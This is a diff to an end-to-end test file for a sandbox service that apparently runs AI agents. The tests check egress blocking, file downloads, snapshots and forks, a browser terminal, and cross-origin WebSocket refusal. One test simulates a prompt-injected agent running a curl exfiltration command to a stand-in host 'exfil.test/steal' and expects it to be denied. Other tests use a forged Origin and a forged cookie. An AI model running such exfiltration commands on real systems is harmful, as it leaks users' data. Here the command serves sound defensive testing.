@@ -8,6 +8,7 @@ only, and every request it tried to send elsewhere is recorded and must be none.
 
 from __future__ import annotations
 
+import re
 import secrets
 import shutil
 import tempfile
@@ -18,6 +19,8 @@ from pathlib import Path
 
 import httpx
 import pytest
+import websockets
+import websockets.sync.client
 
 from corral import Sandbox
 from corral._control.manager import Manager
@@ -80,8 +83,10 @@ def test_sign_in_watch_a_sandbox_appear_and_its_command_live(service: Service) -
             assert page.evaluate("document.cookie") == ""  # HttpOnly: no script reads it
             assert "tenant alpha" in page.locator("#who").inner_text()
 
-            sandbox = Sandbox.create(labels={"agent": "ui-test"}, **alpha)
+            sandbox = Sandbox.create(labels={"agent": "ui-test"},
+                                     network={"allow": ["api.test"]}, **alpha)
             made.append(sandbox)
+            sandbox.files.write("report.txt", "the agent's report")
             row = page.locator(f'tr[data-id="{sandbox.id}"]')
             row.wait_for()  # pushed by the live stream, no reload
             assert "agent=ui-test" in row.inner_text()
@@ -105,7 +110,47 @@ def test_sign_in_watch_a_sandbox_appear_and_its_command_live(service: Service) -
             page.get_by_label("Command to run").fill("echo typed-in-the-$((6*7))-ui")
             page.get_by_role("button", name="Run").click()
             page.get_by_text("typed-in-the-42-ui").wait_for()
+
+            # A prompt-injected agent tries to send data out: refused, with the rule.
+            tried = sandbox.commands.run("curl -sS -m 10 --noproxy '' -o /dev/null -w "
+                                         "'%{http_code}' http://exfil.test/steal", timeout=30)
+            assert tried.stdout == "403", tried
+            refusal = page.locator('li[data-type="egress.decision"]').last
+            refusal.get_by_text("exfil.test:80", exact=True).wait_for()
+            assert "denied" in refusal.inner_text() and "no-match" in refusal.inner_text()
             save_screenshot(page, "dashboard-sandbox-timeline")
+
+            # A file, downloaded through the session (and audited as a read).
+            with page.expect_download() as download:
+                page.get_by_role("link", name="report.txt").click()
+            assert Path(download.value.path()).read_text() == "the agent's report"
+
+            # A snapshot and a fork (nothing may run in it meanwhile), then the family tree.
+            page.get_by_role("button", name="Snapshot").click()
+            notice = page.get_by_role("status")
+            notice.get_by_text(re.compile(r"Snapshot snap_\w+ taken")).wait_for()
+            page.get_by_role("button", name="Fork").click()
+            notice.get_by_text(re.compile(r"Forked into sbx_\w+")).wait_for()
+            tree = page.locator("ul.tree")
+            tree.get_by_text("snapshot").first.wait_for()
+            child = tree.locator("li a").first
+            child.wait_for()
+            made.append(Sandbox.connect(child.inner_text(), **alpha))
+            save_screenshot(page, "dashboard-family")
+
+            # A terminal: xterm.js over the PTY WebSocket, signed in by the cookie.
+            page.get_by_role("button", name="Terminal").click()
+            screen = page.locator(".terminal .xterm-rows")
+            screen.get_by_text("$").first.wait_for()
+            page.keyboard.type("echo term-$((7*6))\n")
+            screen.get_by_text("term-42").wait_for()
+            save_screenshot(page, "dashboard-terminal")
+
+            page.goto(f"{service.server.url}/ui#/egress")
+            row = page.locator("tr", has_text="exfil.test")
+            row.wait_for()
+            assert "denied" in row.inner_text() and "no-match" in row.inner_text()
+            save_screenshot(page, "dashboard-egress")
 
             # Another tenant's sandbox, by its URL: not shown.
             page.goto(f"{service.server.url}/ui#/sandboxes/{beta_box.id}")
@@ -164,6 +209,16 @@ def test_a_session_is_the_browsers_alone_and_its_tenants_alone(service: Service)
         assert evil.status_code == 403
         page = client.get("/ui/api/sandboxes", params={"limit": 5}, headers=ui).json()
         assert page["total"] == 0 and page["items"] == []
+        # A WebSocket with the cookie: from another Origin, or none, refused.
+        ws_url = url.replace("http", "ws") + f"/v1/sandboxes/{beta.id}/pty"
+        for origin in ("http://evil.example", None):
+            headers = {"Cookie": f"corral_session={cookie}"} | (
+                {"Origin": origin} if origin else {})
+            with pytest.raises(websockets.InvalidStatus) as refused_ws:
+                with websockets.sync.client.connect(ws_url, additional_headers=headers,
+                                                    open_timeout=10):
+                    pass
+            assert refused_ws.value.response.status_code in (401, 403), origin
         # A forged cookie, then the key revoked: the session ends with it.
         forged = httpx.get(f"{url}/ui/api/me", headers=ui,
                            cookies={"corral_session": cookie[:-4] + "AAAA"})
